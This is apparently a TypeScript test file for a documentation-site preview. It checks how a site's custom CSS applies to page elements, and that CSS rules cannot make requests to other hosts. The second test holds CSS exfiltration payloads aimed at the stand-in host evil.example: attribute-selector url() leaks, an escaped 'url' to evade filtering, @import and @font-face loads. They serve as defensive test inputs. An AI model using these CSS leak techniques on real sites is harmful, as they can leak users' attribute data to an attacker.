// A site's own style sheets in the preview: what they reach, and what stays as it is.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { useBrowser } from './tools/previewBrowser.ts';

const browser = useBrowser();
const config = JSON.stringify({
  name: 'S',
  colors: { primary: '#0f6b62' },
  navigation: [{ group: 'Group', pages: ['page', 'other'] }],
});

const page = `<div className="hero header" id="mine">Hero <span className="dark:text-red-500 md:hidden">span</span></div>

<Card title="Card">Text</Card>

<input type="text" />

<div className="far">Far</div>

<style>{\`
  .own { color: rgb(9, 9, 9) }
\`}</style>

<p className="own">Own</p>

<iframe src="https://far.example.com/x" title="Far"></iframe>

{window.notKnown()}
`;

test('style sheets reach the page and the documented hooks, live, and never the preview’s controls', async () => {
  const files = new Map([
    ['docs.json', config],
    ['page.mdx', page],
    ['other.mdx', 'Text'],
    [
      'style.css',
      `.hero { color: rgb(1, 2, 3) } #mine { margin-top: 77px } .header { padding-left: 5px }
.card { border-color: rgb(4, 5, 6) } #sidebar { background: rgb(7, 8, 9) } .sidebar-group { color: rgb(10, 11, 12) }
.sidebar-title { color: rgb(13, 14, 15) } #navbar { background: rgb(16, 17, 18) }
.far { position: fixed; inset: 0; z-index: 2147483647 }
html.dark .hero { color: rgb(20, 21, 22) }
div, aside, button, span, p { scroll-margin-top: 33px !important }
.view-strip, .box, body, html { }
.view-strip { display: none !important } * { outline-color: rgb(1, 1, 1) !important }`,
    ],
  ]);
  const preview = await browser.open(files, { width: 1280 });
  await preview.show('page.mdx');
  const look = (): Promise<Record<string, string>> =>
    preview.page.evaluate(() => {
      const of = (selector: string, property: string): string => {
        const element = document.querySelector(selector);
        return element === null ? 'missing' : getComputedStyle(element).getPropertyValue(property);
      };
      const far = document.querySelector('.far')?.getBoundingClientRect();
      const content = document.querySelector('#ds-blocks')?.getBoundingClientRect();
      return {
        hero: of('.hero', 'color'),
        mine: of('.hero', 'margin-top'),
        own: of('.hero', 'padding-left'),
        bar: of('.header', 'padding-left'),
        card: of('.card', 'border-top-color'),
        sidebar: of('#ds-sidebar', 'background-color'),
        title: of('.nav-title', 'color'),
        navbar: of('#ds-header', 'background-color'),
        paragraph: of('.own', 'color'),
        box: of('.box', 'scroll-margin-top'),
        strip: of('.view-strip', 'display'),
        stripLetters: of('.view-strip button', 'scroll-margin-top'),
        far: String(
          far !== undefined && content !== undefined && far.top >= content.top - 1 && far.left >= content.left - 1,
        ),
      };
    });
  const { bar, ...seen } = await look();
  assert.notEqual(bar, '5px');
  assert.notEqual(seen['strip'], 'none');
  delete seen['strip'];
  assert.deepEqual(seen, {
    hero: 'rgb(1, 2, 3)',
    mine: '77px',
    own: '5px',
    card: 'rgb(4, 5, 6)',
    sidebar: 'rgb(7, 8, 9)',
    title: 'rgb(13, 14, 15)',
    navbar: 'rgb(16, 17, 18)',
    paragraph: 'rgb(9, 9, 9)',
    box: '0px',
    stripLetters: '0px',
    far: 'true',
  });
  preview.change('style.css', '.hero { color: rgb(99, 2, 3) }');
  await preview.show('page.mdx');
  assert.equal((await look())['hero'], 'rgb(99, 2, 3)');
});

test('no rule asks another host for anything; a picture of the site is loaded', async () => {
  const rules = `input[type^="t"], .hero[id^="p-m"] { background: url("https://evil.example/leak") }
.hero { background-image: url(/img/a.png); list-style: u\\72l(https://evil.example/x); --a: url(https://evil.example/y); cursor: var(--a), auto }
@import "https://evil.example/z.css"; @font-face { font-family: F; src: url(https://evil.example/f.woff2) } .hero { font-family: F }`;
  const files = new Map([
    ['docs.json', config],
    ['page.mdx', page],
    ['style.css', rules],
    ['img/a.png', ''],
  ]);
  const preview = await browser.open(files, { width: 900 });
  await preview.show('page.mdx');
  await preview.page.waitForLoadState('networkidle');
  assert.deepEqual(
    preview.requests.filter((url) => url.includes('evil')),
    [],
  );
  const css = await preview.page.evaluate(() => document.querySelector('style[data-styles="site"]')?.textContent ?? '');
  assert.match(css, /img\/a\.png/);
  // The control: a host that may be asked is asked.
  const allowed = await browser.open(files, { width: 900, host: { allowedHosts: new Set(['evil.example']) } });
  await allowed.show('page.mdx');
  const open = await allowed.page.evaluate(
    () => document.querySelector('style[data-styles="site"]')?.textContent ?? '',
  );
  assert.match(open, /url\("https:\/\/evil\.example\/leak"\)/);
});
